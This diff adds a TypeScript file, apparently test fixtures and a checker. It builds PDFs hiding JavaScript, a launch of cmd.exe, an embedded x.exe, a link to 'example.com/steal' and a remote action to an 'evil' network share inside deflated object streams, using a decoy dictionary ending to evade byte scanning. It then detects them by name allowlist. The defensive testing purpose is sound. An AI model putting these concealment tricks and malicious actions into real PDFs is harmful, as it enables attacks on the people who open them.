@@ -1,0 +1,116 @@
+// PDFs that do more than be read though their plain bytes do not say so, and a look into one.
+import { deflateSync } from 'node:zlib';
+
+/** A page that says so many words, and what it may be pressed on. */
+const page = (more: string) =>
+  `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R ` +
+  `/Resources << /Font << /F 5 0 R >> >> ${more} >>`;
+const words = 'BT /F 40 Tf 60 700 Td (Salary 40,000) Tj ET';
+
+/**
+ * A whole PDF of one page. `hidden` are the objects from 10 on; they lie deflated in a stream of
+ * objects whose dictionary ends with a string that looks like the dictionary's end.
+ */
+function written(catalog: string, hidden: string[] = [], ofPage = ''): Buffer {
+  const plain: [no: number, content: string][] = [
+    [2, '<< /Type /Pages /Kids [3 0 R] /Count 1 >>'],
+    [3, page(ofPage)],
+    [4, `<< /Length ${words.length} >>\nstream\n${words}\nendstream`],
+    [5, '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>'],
+  ];
+  const packed: [no: number, content: string][] = [
+    [1, `<< /Type /Catalog /Pages 2 0 R ${catalog} >>`],
+    ...hidden.map((content, i): [number, string] => [10 + i, content]),
+  ];
+  let body = '%PDF-1.7\n';
+  const rows: number[][] = [];
+  const add = (no: number, content: string) => {
+    rows[no] = [1, body.length, 0];
+    body += `${no} 0 obj\n${content}\nendobj\n`;
+  };
+  for (const [no, content] of plain) add(no, content);
+  let at = 0;
+  const places = packed.map(([no, content], i) => {
+    rows[no] = [2, 7, i];
+    const place = `${no} ${at}`;
+    at += content.length + 1;
+    return place;
+  });
+  const heads = `${places.join(' ')} `;
+  const deflated = deflateSync(
+    Buffer.from(heads + packed.map(([, content]) => content).join(' '), 'latin1'),
+  ).toString('latin1');
+  const keysOf = `/Type /ObjStm /N ${packed.length} /First ${heads.length}`;
+  const dictionary = `${keysOf} /Filter /FlateDecode`;
+  add(7, `<< ${dictionary} /Length ${deflated.length} /X <41>>>\nstream\n${deflated}\nendstream`);
+  const xref = body.length;
+  rows[8] = [1, xref, 0];
+  const size = Math.max(...packed.map(([no]) => no), 8) + 1;
+  const table = Buffer.alloc(size * 6);
+  for (let no = 0; no < size; no += 1) {
+    const [kind = 0, place = 0, index = 0] = rows[no] ?? [];
+    table.writeUInt8(kind, no * 6);
+    table.writeUInt32BE(place, no * 6 + 1);
+    table.writeUInt8(index, no * 6 + 5);
+  }
+  const keys = `/Type /XRef /Size ${size} /W [1 4 1] /Root 1 0 R /Length ${table.length}`;
+  body += `8 0 obj\n<< ${keys} >>\nstream\n${table.toString('latin1')}\nendstream\nendobj\n`;
+  return Buffer.from(`${body}startxref\n${xref}\n%%EOF\n`, 'latin1');
+}
+
+const link = (action: string) =>
+  `/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /A ${action} >>]`;
+
+/** Each passes a look at its plain bytes; the first is what an attacker sent. */
+export const sneakyPdfs: Record<string, Buffer> = {
+  'a script behind <41>>>': written('/Names << /JavaScript << /Names [(a) 10 0 R] >> >>', [
+    '<< /S /JavaScript /JS (app.alert\\(1\\)) >>',
+  ]),
+  'an address': written('', [], link('<< /S /URI /URI (https://example.com/steal) >>')),
+  'a share of the network': written(
+    '/OpenAction << /S /GoToR /F (\\\\\\\\evil\\\\share\\\\x.pdf) /D [0 /Fit] >>',
+    [],
+    link('<< /S /URI /URI (file://evil/share/x) >>'),
+  ),
+  'a program': written('/OpenAction 10 0 R', ['<< /S /Launch /F (cmd.exe) >>']),
+  'a file inside': written(
+    '/Names << /EmbeddedFiles << /Names [(x.exe) 10 0 R] >> >> /AF [10 0 R]',
+    ['<< /Type /Filespec /F (x.exe) /EF << /F 4 0 R >> /EmbeddedFile 4 >>'],
+  ),
+  'a form of XFA': written('/AcroForm << /XFA 10 0 R /Fields [] >>', ['[(form) 4 0 R]']),
+};
+
+/** What a PDF made of pictures consists of; any other name makes it more than that. */
+const PLAIN_NAMES = new Set(
+  (
+    'Type Catalog Pages Kids Count Page Parent MediaBox Contents Resources XObject P Length ' +
+    'Subtype Image Width Height ColorSpace DeviceRGB BitsPerComponent Filter DCTDecode Size Root'
+  ).split(' '),
+);
+
+export type PdfLook = {
+  /** Names that have no business in a PDF of pictures. */
+  otherNames: string[];
+  pictures: Buffer[];
+};
+
+/** Takes a served PDF apart. Everything outside its pictures is plain, so that nothing can hide. */
+export function lookInto(pdf: Buffer): PdfLook {
+  const pictures: Buffer[] = [];
+  let rest = '';
+  let at = 0;
+  const text = pdf.toString('latin1');
+  for (const found of text.matchAll(/\/DCTDecode \/Length (\d+) >>\nstream\n/g)) {
+    const from = found.index + found[0].length;
+    if (from < at) throw new Error('a picture within a picture');
+    const end = from + Number(found[1]);
+    if (!text.startsWith('\nendstream\n', end)) throw new Error('a picture without its end');
+    pictures.push(pdf.subarray(from, end));
+    rest += text.slice(at, from);
+    at = end;
+  }
+  rest += text.slice(at);
+  const names = [...rest.matchAll(/\/([^\s/<>[\]()%{}]*)/g)].map(([, name]) => name!);
+  const otherNames = [...new Set(names.filter((name) => !PLAIN_NAMES.has(name)))];
+  return { otherNames, pictures };
+}
